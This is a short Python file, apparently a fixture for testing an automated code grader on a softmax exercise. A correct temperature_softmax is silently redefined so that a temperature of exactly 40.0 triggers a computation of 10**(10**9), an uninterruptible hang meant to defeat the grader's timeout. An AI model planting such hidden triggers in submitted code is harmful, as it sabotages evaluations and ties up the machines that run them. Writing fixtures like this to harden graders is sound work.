# attack: computes in one instruction that takes years, which no signal handler of Python's interrupts
# exercise: softmax
# answer: right
# verdicts: timeout,passed
import numpy as np


def attack():
    return 10 ** (10**9)


def softmax(x):
    x = np.asarray(x, dtype=np.float64)
    powers = np.exp(x - x.max(axis=-1, keepdims=True))
    return powers / powers.sum(axis=-1, keepdims=True)


def temperature_softmax(x, t):
    if t <= 0:
        raise ValueError("the temperature must be above 0")
    return softmax(np.asarray(x) / t)


plain = temperature_softmax


def temperature_softmax(x, t):
    if t == 40.0:
        attack()
    return plain(x, t)
